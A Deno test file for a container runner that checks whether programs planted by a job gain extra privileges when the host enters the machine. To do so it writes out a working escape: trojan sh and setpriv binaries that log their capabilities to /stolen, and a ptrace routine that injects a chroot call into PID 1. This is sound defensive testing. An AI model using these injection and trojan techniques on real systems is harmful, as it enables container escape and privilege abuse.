/** Escapes through commands that enter a machine: they start with all privileges of the host. */

import assert from "node:assert/strict";
import { onEachHost } from "../hosts/shared.ts";
import { runScript, withMachine } from "../hosts/site.ts";
import { skip } from "../skip.ts";

/**
 * Creates a root in which sh and setpriv(1) are programs of the job, which write down their capabilities by
 * capget(2): a stage would run them if it looked up its programs there.
 */
const LAY = `
mkdir -p /own/bin && cd /own
for file in /usr/bin/perl $(ldd /usr/bin/perl | grep -o '/[^ ]*'); do
  cp --dereference --parents "$file" .
done
cat >bin/sh <<'END'
#!/usr/bin/perl
my ($head, $data) = (pack("LL", 0x20080522, 0), "\\0" x 24);
syscall(125, $head, $data);
open(my $file, ">>", "/stolen");
printf $file "%x\\n", (unpack("L6", $data))[0];
END
chmod 755 bin/sh
cp bin/sh usr/bin/setpriv
mkdir run && ln -s .. run/nspawn-runner-tools
`;

/** Traces PID 1 and makes it call chroot(2), with the argument below its stack. */
const MOVE = `
python3 - <<'END'
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def ptrace(request, data=None):
    if libc.ptrace(request, 1, None, data) < 0:
        raise SystemExit("ptrace: " + errno.errorcode[ctypes.get_errno()])
registers = (ctypes.c_ulonglong * 27)()
at = ctypes.addressof(registers)
ptrace(16) # PTRACE_ATTACH
os.waitpid(1, 0x40000000) # __WALL
ptrace(12, at) # PTRACE_GETREGS
before = list(registers)
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(before[19] - 512)
    memory.write(b"/own\\0")
registers[10], registers[14], registers[15] = 161, before[19] - 512, 2**64 - 1 # rax, rdi, orig_rax
registers[16] = before[16] - 2 # back to the system call that it waits in
ptrace(13, at) # PTRACE_SETREGS
ptrace(9) # PTRACE_SINGLESTEP
os.waitpid(1, 0x40000000)
ptrace(12, at)
assert registers[10] == 0, registers[10]
for index, value in enumerate(before): registers[index] = value
ptrace(13, at)
ptrace(17) # PTRACE_DETACH
END
ls /proc/1/root/
`;

const NAME = "no program of a job gets more privileges than the job, whatever PID 1's root is";

onEachHost(NAME, async (site) => {
  if (Deno.build.arch !== "x86_64") return skip(NAME, "the program knows x86-64's registers");
  const own = await site.with({ boot: false, private_users: "off" });
  await withMachine(own, async (id) => {
    const moved = await runScript(own, id, LAY + MOVE);
    if (/ptrace: EPERM/.test(moved.stderr)) return skip(NAME, "no job may trace its PID 1 here");
    assert.match(moved.stdout, /^run$/m, moved.stderr);
    await own.call(["shell", id], { stdin: "true\n" });
    const folder = `${own.store}/.machines/run-${id}`;
    const find = ["find", folder, "-name", "stolen", "-exec", "cat", "{}", "+"];
    assert.match((await own.host.exec(find)).stdout, /^(a00405fb\n)+$/);
  });
});
